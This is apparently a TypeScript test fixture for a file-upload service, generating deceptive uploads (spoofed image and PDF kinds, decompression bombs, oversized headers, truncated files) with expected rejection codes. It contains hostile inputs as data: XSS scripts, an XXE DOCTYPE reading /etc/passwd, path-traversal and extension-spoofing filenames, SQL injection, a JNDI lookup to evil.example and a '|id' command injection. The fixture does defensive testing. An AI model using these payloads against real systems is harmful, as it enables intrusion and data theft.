import { crc32, deflateSync } from "node:zlib";
import type { MediaType } from "@partner-konto/domain/companies/profile/schema";
import type { ServerCode } from "@partner-konto/domain/error/server-codes";
import sharp from "sharp";
import { sampleFile } from "../profile/testing.ts";
import { dangerous } from "./pdf/testing-dangerous.ts";
import { harmless } from "./pdf/testing-harmless.ts";

/** A deceptive file and the expected outcome. */
export interface HostileFile {
  what: string;
  type: MediaType;
  name: string;
  data: Uint8Array;
  outcome: ServerCode | "taken";
}

/** A request body as any program may write it, with the name unchanged. */
export function rawUpload(name: string, data: Uint8Array): Buffer {
  const head = `--x-x-x\r\ncontent-disposition: form-data; name="file"; filename="${name.replaceAll('"', "%22")}"\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), data, Buffer.from("\r\n--x-x-x--\r\n")]);
}

const text = (content: string): Buffer => Buffer.from(content, "latin1");
const html = "<!doctype html><script>alert(document.cookie)</script>";
const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>';

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(kind), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PNG that declares this size, whatever data follows. */
function pngSaying(width: number, height: number, rows: Buffer = Buffer.alloc(4), kind = [1, 0, 0, 0, 0]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set(kind, 8);
  const magic = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const ends = chunk("IEND", Buffer.alloc(0));
  return Buffer.concat([magic, chunk("IHDR", head), chunk("IDAT", deflateSync(rows)), ends]);
}

const flat = (side: number, background = "teal") =>
  sharp({ create: { width: side, height: side, channels: 3, background } });
const clear = (background: string) =>
  sharp({ create: { width: 600, height: 420, channels: 4, background } })
    .png()
    .toBuffer();
const lined = async () =>
  flat(600, "white")
    .composite([{ input: await flat(40, "#bbbbbb").png().toBuffer(), left: 20, top: 20 }])
    .png()
    .toBuffer();
const inPasses = { progressive: true, chromaSubsampling: "4:4:4" };

function pictureOf(format: "jpeg" | "png" | "webp" | "gif" | "tiff" | "avif"): Promise<Buffer> {
  const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: "teal" } });
  return picture[format]().toBuffer();
}

const names = [
  "../../../etc/passwd",
  "..\\..\\windows\\system32\\logo.png",
  "/etc/cron.d/logo.png",
  "C:\\autoexec.bat",
  "....//....//logo.png",
  "..",
  ".",
  ".htaccess",
  "logo.png\u0000.exe",
  "logo\u202Egnp.exe",
  "logo\u2066.exe\u2069.png",
  "\u200B\u200B",
  "logo.php",
  "logo.png.html",
  "<img src=x onerror=alert(1)>.png",
  "'; drop table profile; --.png",
  "${jndi:ldap:/evil.example}.png",
  "CON",
  "a".repeat(250),
  "\uFEFF logo.png",
];

/** A few documents of each kind; all of them are tested beside their reader (pdf/judge.test.ts). */
function documents(): HostileFile[] {
  const agb = (what: string, data: Uint8Array, outcome: HostileFile["outcome"]): HostileFile => ({
    what: `a PDF with ${what}`,
    type: "agb",
    name: "agb.pdf",
    data,
    outcome,
  });
  const plain = sampleFile("agb");
  const someOf = (all: readonly (readonly [string, Uint8Array])[], outcome: HostileFile["outcome"]) =>
    all.filter((_, at) => at % 5 === 0).map(([what, data]) => agb(what, data, outcome));
  const acting = Object.entries(dangerous).map(([what, [, data]]) => [what, data] as const);
  return [
    ...someOf(acting, "PDF_NOT_PLAIN"),
    ...someOf(Object.entries(harmless), "taken"),
    agb("no end", plain.subarray(0, plain.length - 8), "FILE_NOT_A_PDF"),
    agb("something before it", Buffer.concat([text(html), plain]), "FILE_NOT_A_PDF"),
    agb("an archive after it", Buffer.concat([plain, text("PK\u0003\u0004")]), "FILE_NOT_A_PDF"),
    agb("nothing but its magic", text("%PDF-1.4\n%%EOF"), "FILE_NOT_A_PDF"),
    agb("the form of a page of the web", text(html), "FILE_NOT_A_PDF"),
    agb("the form of a program", Buffer.concat([text("MZ"), Buffer.alloc(200)]), "FILE_NOT_A_PDF"),
    agb("6 MB", Buffer.concat([text("%PDF-1.4\n"), Buffer.alloc(6 * 1024 * 1024)]), "PAYLOAD_TOO_LARGE"),
  ];
}

/** Typical hostile files: each lies about its kind, its size or its name. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpeg, png, webp, gif, tiff, avif] = await Promise.all(
    (["jpeg", "png", "webp", "gif", "tiff", "avif"] as const).map((format) => pictureOf(format)),
  );
  const logo = (what: string, data: Uint8Array | undefined, outcome: HostileFile["outcome"]): HostileFile => ({
    what,
    type: "logo",
    name: "logo.png",
    data: data ?? Buffer.alloc(0),
    outcome,
  });
  const not = "FILE_NOT_A_PICTURE";
  const whole = { jpeg: jpeg ?? Buffer.alloc(0), png: png ?? Buffer.alloc(0), webp: webp ?? Buffer.alloc(0) };
  const located = await sharp(whole.jpeg)
    .withExif({
      IFD3: { GPSLatitude: "53/1 15/1 0/1", GPSLatitudeRef: "N" },
      IFD0: { Copyright: "<script>x</script>" },
    })
    .toBuffer();
  const pictures = [
    logo("an SVG", text(svg), not),
    logo(
      "an SVG with a head of XML",
      text(`<?xml version="1.0"?><!DOCTYPE svg SYSTEM "file:///etc/passwd">${svg}`),
      not,
    ),
    logo("an SVG in packed form", deflateSync(text(svg)), not),
    logo("a page of the web called a picture", text(html), not),
    logo("a GIF", gif, not),
    logo("a TIFF", tiff, not),
    logo("an AVIF", avif, not),
    logo("a BMP", Buffer.concat([text("BM"), Buffer.alloc(100)]), not),
    logo("an icon", Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(100)]), not),
    logo("a drawing in PostScript", text("%!PS-Adobe-3.0 EPSF-3.0\n(x) run\n"), not),
    logo("instructions for a drawing program", text("push graphic-context\nimage over 0,0 0,0 '|id'\n"), not),
    logo("a PDF called a picture", sampleFile("agb"), not),
    logo("an archive", Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(100)]), not),
    logo("a program", Buffer.concat([text("\u007FELF"), Buffer.alloc(100)]), not),
    logo(
      "the magic of a JPEG and a page of the web",
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(html)]),
      not,
    ),
    logo("the magic of a PNG and nothing", whole.png.subarray(0, 8), not),
    logo("half a JPEG", whole.jpeg.subarray(0, whole.jpeg.length / 2), not),
    logo("half a PNG", whole.png.subarray(0, whole.png.length / 2), not),
    logo("half a WebP", whole.webp.subarray(0, whole.webp.length / 2), not),
    logo("one byte", Buffer.from([0xff]), not),
    logo("nothing", Buffer.alloc(0), "FILE_EMPTY"),
    logo("6 MB of nothing", Buffer.alloc(6 * 1024 * 1024), "PAYLOAD_TOO_LARGE"),
    logo("one point that says 30,000 by 30,000", pngSaying(30_000, 30_000), "PICTURE_TOO_LARGE"),
    logo("a picture of 25 million points and one row", pngSaying(5000, 5001), "PICTURE_TOO_LARGE"),
    logo(
      "a picture that grows from kilobytes",
      pngSaying(20_000, 20_000, Buffer.alloc(50_000_000)),
      "PICTURE_TOO_LARGE",
    ),
    // 16 bits for each of four channels, in several passes over the whole picture.
    logo(
      "a PNG that lies in memory whole",
      pngSaying(4000, 4000, Buffer.alloc(4), [16, 6, 0, 0, 1]),
      "PICTURE_TOO_LARGE",
    ),
    logo("a JPEG that lies in memory whole", await flat(3000).jpeg(inPasses).toBuffer(), "PICTURE_TOO_LARGE"),
    logo("a WebP that lies in memory whole", await flat(3700).webp({ lossless: true }).toBuffer(), "PICTURE_TOO_LARGE"),
    logo("a picture that is transparent all over", await clear("#ff000000"), "PICTURE_BLANK"),
    logo("a picture that is white all over", await flat(600, "white").jpeg().toBuffer(), "PICTURE_BLANK"),
    logo("a white picture with a grey line", await lined(), "taken"),
    logo("a JPEG of several passes", await flat(300).jpeg(inPasses).toBuffer(), "taken"),
    logo("a JPEG with a script after its end", Buffer.concat([whole.jpeg, text(html)]), "taken"),
    logo("a PNG with an archive after its end", Buffer.concat([whole.png, text("PK\u0003\u0004<script>")]), "taken"),
    logo("a JPEG that says where it was made, and a script as its owner", located, "taken"),
  ];
  const named = names.map((name) => ({ ...logo(`the name ${JSON.stringify(name)}`, whole.png, "taken"), name }));
  return [...pictures, ...named, ...documents()];
}
